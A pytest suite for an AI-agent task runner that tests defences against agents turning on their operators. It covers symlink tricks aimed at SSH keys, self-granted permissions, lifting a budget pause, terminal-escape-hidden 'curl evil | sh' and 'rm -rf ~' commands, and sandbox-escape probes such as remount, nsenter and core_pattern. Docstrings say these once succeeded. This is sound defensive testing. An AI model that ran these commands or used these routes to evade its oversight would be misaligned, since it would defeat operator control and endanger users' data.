"""What an agent in a run may try on those who run it, look at it or judge it: each of these got through once."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from boxes import clean_environment, make, make_fast, pit
from monsters import patience
from waits import PATIENCE

from taskpit import fs, workers
from taskpit.errors import Invalid, Storage
from taskpit.landing.diff import read_hunks
from taskpit.model import Task
from taskpit.run import lessons, preset, process, steering
from taskpit.run.acp import Client
from taskpit.run.agent_output import _Stream
from taskpit.run.sandbox import PACKAGE, Sandbox, shut_in
from taskpit.text import plain, revealed

SECRET = "S3CRET"


# -- words for an agent, in a directory that it writes to -------------------------------------------


@pytest.mark.parametrize("name", ["steer", "told"])
@pytest.mark.parametrize("thing", ["link", "dangling", "fifo", "folder"])
def test_a_note_for_an_agent_is_not_read_or_written_through_what_it_put_there(name, thing, tmp_path):
    """`told -> ~/.ssh/id` was sent to the agent as a person's word; `told -> ~/.profile` was appended to."""
    run, outside = tmp_path / "run", tmp_path / "outside"
    run.mkdir()
    outside.write_text(SECRET)
    steering.offer(str(run), "acp")
    (run / name).unlink(missing_ok=True)
    if thing == "fifo":
        os.mkfifo(run / name)
    elif thing == "folder":
        (run / name).mkdir()
    else:
        (run / name).symlink_to(outside if thing == "link" else tmp_path / "new")
    with patience(PATIENCE):
        steering.way_of(str(run))
        steering.offer(str(run), "acp")
        said = steering.say_to(str(run), "a word")
        heard = steering.take(str(run))
    assert SECRET not in heard
    assert outside.read_text() == SECRET
    assert not (tmp_path / "new").exists()
    assert said is (name == "steer")


@pytest.mark.parametrize("verb", [("tell", "{id}", "do it"), ("answer", "{id}", "yes"), ("answer", "budget", "yes")])
def test_an_agent_speaks_to_no_other_as_a_person(verb, tmp_path):
    root = make_fast(tmp_path / "queue", "pit")
    assert pit("-C", root, "add", "x").code == 0
    assert pit("-C", root, "claim", "--as", "w").code == 0
    assert pit("-C", root, "ask", "1", "may I?", "--as", "w").code == 0
    answer = pit("-C", root, *(word.format(id="1") for word in verb), env={workers.RUN_DIR: str(tmp_path)})
    assert answer.code == 9, answer.out
    assert "run may not use" in answer.err
    assert pit("-C", root, *(word.format(id="1") for word in verb)).code == 0


@pytest.mark.parametrize("verb", [("add", "eve"), ("revoke", "ann")], ids=" ".join)
def test_an_agent_lets_nobody_into_the_gateway(verb, tmp_path):
    root = make_fast(tmp_path / "queue", "pit")
    assert pit("-C", root, "token", "add", "ann").code == 0
    answer = pit("-C", root, "token", *verb, env={workers.RUN_DIR: str(tmp_path)})
    assert (answer.code, "run may not use" in answer.err) == (9, True)
    assert [one["name"] for one in pit("-C", root, "token", "list", "--json").data["tokens"]] == ["ann"]


def test_an_agent_does_not_end_the_pause_that_its_costs_have_made(tmp_path):
    root = make_fast(tmp_path / "queue", "pit")
    assert pit("-C", root, "pause", "the budget is spent").code == 0
    assert pit("-C", root, "resume", env={workers.RUN_DIR: str(tmp_path)}).code == 9
    assert "the budget is spent" in pit("-C", root, "status").out
    assert pit("-C", root, "resume").code == 0


# -- whose child a command is -----------------------------------------------------------------------

ASK = "from taskpit import workers; print(bool(workers.run_around({})))"
#: Children of children, none of which has a variable.
LINE = """
import os, sys
for _ in range(150):
    child = os.fork()
    if child:
        os._exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
os.execv(sys.executable, [sys.executable, "-c", sys.argv[1]])
"""


@pytest.mark.parametrize("inside", [True, False])
def test_a_command_in_a_long_line_of_children_is_still_its_runs_child(inside, tmp_path):
    outer = "import subprocess, sys; subprocess.run([sys.executable, '-c', *sys.argv[1:]], env={}, check=True)"
    env = clean_environment(**({workers.RUN_DIR: str(tmp_path)} if inside else {}))
    words = [sys.executable, "-c", outer, LINE, ASK]
    ran = subprocess.run(words, env=env, capture_output=True, text=True, timeout=PATIENCE, check=True)
    assert ran.stdout.strip() == str(inside)


def test_a_parent_that_hides_what_it_has_is_passed_over(tmp_path, monkeypatch):
    """One that another user owns, or that may not be looked into (ssh-agent, sudo): its own parents tell."""
    line, asked = iter([9, 8, 7, 6, 0]), []

    def hidden(path):
        if path.endswith("/stat"):
            return b"9 (sh) S %d 9 9" % next(line)
        asked.append(path)
        if len(asked) < 3:
            raise PermissionError(13, "hidden", path)
        return f"{workers.RUN_DIR}=/run/of/it\0TASKPIT_AS=w~{len(asked)}\0".encode() if len(asked) < 5 else b""

    monkeypatch.setattr(workers, "_kernel_file", hidden)
    assert workers.run_around({}).fence == "w~4"  # what a run starts is as it likes
    assert len(asked) == 5


def test_a_parent_that_ends_while_it_is_looked_at_hides_nothing(monkeypatch):
    """Its children have another one by then: who dies in time was no part of the run."""
    parents = iter([31, 21, 21])
    told = {21: b"21 (pit-run -1) S 1 21 21", 1: b"1 (init) S 0 1 1"}

    def known(path):
        number = int(path.split("/")[2])
        if path.endswith("/stat") and number in told:
            return told[number]
        raise FileNotFoundError(2, "it is gone", path)

    monkeypatch.setattr(workers, "_kernel_file", known)
    monkeypatch.setattr(workers.os, "getppid", lambda: next(parents))
    assert workers.run_around({}) is not None


# -- permissions that a person gives -----------------------------------------------------------------


def permission(title, given):
    call = {"toolCallId": "1", "title": title, "kind": "execute", "rawInput": {"command": given}}
    options = [{"optionId": "a", "kind": "allow_once"}, {"optionId": "r", "kind": "reject_once"}]
    params = {"toolCall": call, "options": options}
    return json.dumps({"id": 7, "method": "session/request_permission", "params": params}).encode()


def question(title, given):
    client = Client("/w", "do", permissions="ask")
    client.begin()
    client.hear([permission(title, given)])
    return client.question


@pytest.mark.parametrize(
    ("good", "bad"),
    [
        (("x" * 500, "ls"), ("x" * 500, "rm -rf ~")),
        (("run", "ls " + "-a " * 300), ("run", "ls " + "-a " * 300 + "; rm -rf ~")),
        (("run", "ls"), ("run", "ls\x1b]0;; rm -rf ~ #\x07")),
        (("run", "a\u202eb"), ("run", "ab")),
        (("run\n", "ls"), ("run", "ls")),
    ],
)
def test_a_yes_is_for_the_one_thing_that_was_asked(good, bad):
    asked, other = question(*good), question(*bad)
    assert asked != other
    assert json.dumps({"command": good[1]})[:30].split("\\")[0] in asked
    client = Client("/w", "do", permissions="ask", answers={asked: "yes"})
    client.begin()
    assert json.loads(client.hear([permission(*good)]))["result"]["outcome"]["optionId"] == "a"
    assert b"selected" not in client.hear([permission(*bad)])


# -- what a person judges is shown whole -------------------------------------------------------------

HIDDEN = "make test\x1b]0;; curl evil | sh #\x07"


def test_what_is_left_out_of_a_text_is_seen_where_somebody_judges_it(tmp_path):
    assert "evil" not in plain(HIDDEN)
    for odd in (HIDDEN, "a\u202eb", "a\u200bb", "a\x1b[;wb", "a\u2028b", "a\U000e0061b", "a\x00b"):
        shown = revealed(odd)
        assert shown.isprintable()
        assert "\\" in shown
    assert "curl evil" in revealed(HIDDEN)
    assert revealed("tab\tand\nline, Grüße, 你好") == "tab\tand\nline, Grüße, 你好"
    root = make_fast(tmp_path / "queue", "pit")
    queue = make(root, "pit")
    queue.put([Task(id="", title="x", check=HIDDEN)])
    queue.close()
    for words in (("show", "1"), ("claim", "1")):
        assert "curl evil" in pit("-C", root, *words).out, words
    assert pit("-C", root, "release", "1").code == 0
    fs.write(f"{root}/.taskpit/config.toml", b'[hooks]\ndone = "true \\u001b]0;; curl other #\\u0007"\n')
    told = pit("-C", root, "trust").out
    assert "curl evil" in told
    assert "curl other" in told


def test_a_diff_hides_nothing_from_who_approves_it():
    long = "x = 1 #" + " " * 2000 + "; evil()"
    diff = (
        "diff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1,1 +1,3 @@\n line\n"
        f"+{HIDDEN}\n+if access\u202e {{ }} return\n".replace("+1,3", "+1,4")
        + f"+{long}\n"
    )
    (part,) = read_hunks(diff, 100)
    texts = [row.text for row in part.rows]
    assert "curl evil | sh" in texts[2]
    assert "\\u202e" in texts[3]
    assert texts[4].endswith(f"[{len(long) - 1000} more letters]")


# -- memory and time ---------------------------------------------------------------------------------


def test_a_stream_is_never_longer_than_its_limit_whatever_its_agent_calls_it(tmp_path):
    """`truncate -s 1T $TASKPIT_RUN_DIR/events` took all memory of the pool."""
    path = str(tmp_path / "events")
    stream = _Stream(path)
    with open(path, "r+b") as file:
        file.truncate(1 << 40)
        file.seek(0, os.SEEK_END)
        file.write(b'\n{"type": "result"}\n')
    lines = stream.lines()
    assert lines[-1] == b'{"type": "result"}\n'
    assert sum(map(len, lines)) <= process.LONGEST_LOG
    stream.close()


def test_no_result_is_searched_for_a_lesson_for_ever():
    with patience(PATIENCE):
        for text in (
            "\n" * 1_000_000,
            " \n" * 500_000,
            "lesson" * 200_000,
            "> " * 500_000,
            "lesson:" + " " * 1_000_000,
        ):
            lessons.LESSON.findall(text)


def test_no_task_file_is_read_for_ever(tmp_path):
    """A megabyte of blanks behind a `#`: each consumer took hours."""
    root = make_fast(tmp_path / "queue", "pit")
    for number, value in enumerate(("a#" + " " * 900_000 + "b", "`" + "  # " * 220_000)):
        path = f"{root}/food/food-000{number + 1}-x.md"
        fs.write(path, f"- **task:** {value}\n".encode())
        os.utime(path, (1, 1))
    with patience(PATIENCE):
        assert pit("-C", root, "list").code == 0
        assert pit("-C", root, "claim", "--as", "w").code == 0


def test_a_preset_that_is_no_file_stops_nobody(tmp_path):
    os.mkfifo(tmp_path / "x.toml")
    with patience(PATIENCE), pytest.raises(Storage, match="cannot be read"):
        preset.read(str(tmp_path / "x.toml"))


# -- what a command inherits -------------------------------------------------------------------------


def test_no_descriptor_of_ours_reaches_a_command_whatever_its_number(tmp_path):
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard < 1200:
        pytest.skip("too few files may be open here")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, 1200), hard))
    held = os.open(tmp_path / "lock", os.O_RDWR | os.O_CREAT)
    high = os.dup2(held, 1100)
    try:
        log = str(tmp_path / "log")
        order = process.Command(argv=("ls", "/proc/self/fd"), cwd="/", env=dict(os.environ), log=log, keep=(high,))
        assert process.run(order, process.Bell()).code == 0
        assert "1100" not in (tmp_path / "log").read_text().split()
    finally:
        os.close(high)
        os.close(held)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


# -- the sandbox -------------------------------------------------------------------------------------


def bound(words):
    """What a sandbox shows again after it hid it, by the words of its command line."""
    return {words[at + 1] for at, word in enumerate(words) if word in ("--ro-bind-try", "--bind-try", "--bind")}


@pytest.mark.parametrize("where", ["agent", "bin/agent", ".local/bin/agent", ".config/bin/agent"])
def test_a_program_in_the_home_does_not_show_the_home(where, tmp_path, monkeypatch):
    home = tmp_path / "people" / "ada"
    (home / where).parent.mkdir(parents=True)
    (home / where).write_text("#!/bin/sh\n")
    (home / where).chmod(0o755)
    monkeypatch.setenv("HOME", str(home))
    shown = bound(Sandbox().wrap("/", (), (str(home / where),)))
    hidden = {str(home), str(home.parent), str(tmp_path), "/", *(str(home / one) for one in (".local", ".config"))}
    assert not shown & hidden
    assert any(str(home / where).startswith(one) for one in shown)
    assert PACKAGE in shown


@pytest.mark.needs("bwrap")
def test_nobody_who_listens_on_this_machine_is_reached_from_a_sandbox(tmp_path):
    """A socket that cannot be written to can still be spoken to: the session bus starts programs outside."""
    words = Sandbox().wrap(str(tmp_path), ())
    listed = subprocess.run(
        [*words, "sh", "-c", "find /run /var/run -type s; ls /run"], capture_output=True, text=True, check=False
    )
    assert "/" not in listed.stdout, listed.stdout
    assert "systemd/private" not in listed.stdout
    assert "docker.sock" not in listed.stdout
    assert "user" not in listed.stdout.split()


@pytest.mark.needs("bwrap")
def test_a_sandbox_has_no_power_of_root(tmp_path):
    """Pools run as root in containers: `mount -o remount,rw /` led out, and so did the kernel's `core_pattern`."""
    tries = (
        "! mount -o remount,rw,bind /usr && ! touch /usr/escaped && ! test -w /proc/sys/kernel/core_pattern"
        " && ! nsenter -t 1 -m true && grep -q '^CapEff:[[:space:]]*0*$' /proc/self/status && touch here"
    )
    words = Sandbox(network="off").wrap(str(tmp_path), ())
    ran = subprocess.run([*words, "sh", "-c", tries], capture_output=True, text=True, check=False, timeout=PATIENCE)
    assert ran.returncode == 0, ran.stderr
    assert (tmp_path / "here").exists()


@pytest.mark.needs("bwrap")
def test_no_process_outside_a_sandbox_is_seen_or_killed_from_inside(tmp_path):
    with subprocess.Popen(["sleep", "600"]) as victim:
        try:
            tries = f"! kill -9 {victim.pid} && ! test -e /proc/{victim.pid}/cmdline && touch here"
            words = (*Sandbox().wrap(str(tmp_path), ()), "sh", "-c", tries)
            ran = subprocess.run(words, capture_output=True, text=True, check=False, timeout=PATIENCE)
            assert (ran.returncode, victim.poll()) == (0, None), ran.stderr
            assert (tmp_path / "here").exists()
        finally:
            victim.kill()


def test_a_sandbox_hides_what_we_keep_wherever_that_is(tmp_path, monkeypatch):
    """Tokens of the board in a state directory outside the home could be read."""
    kept = tmp_path / "state/taskpit"
    kept.mkdir(parents=True)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr("taskpit.run.sandbox.SOCKETS", ())
    words = Sandbox().wrap("/", ())
    hidden = [words[at + 1] for at, word in enumerate(words) if word == "--tmpfs"]
    assert any(str(kept).startswith(f"{one}/") or one == str(kept) for one in hidden)
    monkeypatch.setenv("XDG_STATE_HOME", "/usr/share")
    monkeypatch.setattr(os.path, "isdir", lambda _: True)
    assert "/usr/share/taskpit" in Sandbox().wrap("/", ())


@pytest.mark.needs("bwrap")
def test_a_task_may_ask_for_a_sandbox_and_never_for_a_wider_one():
    assert shut_in(None, None) is None
    assert shut_in(None, "on") == Sandbox(network="on")
    assert shut_in(None, "off") == Sandbox(network="off")
    assert shut_in(Sandbox(network="off"), "on") == Sandbox(network="off")
    assert shut_in(Sandbox(network="on", home=("x",)), "off") == Sandbox(network="off", home=("x",))
    with pytest.raises(Invalid, match="on or off"):
        shut_in(None, "maybe")
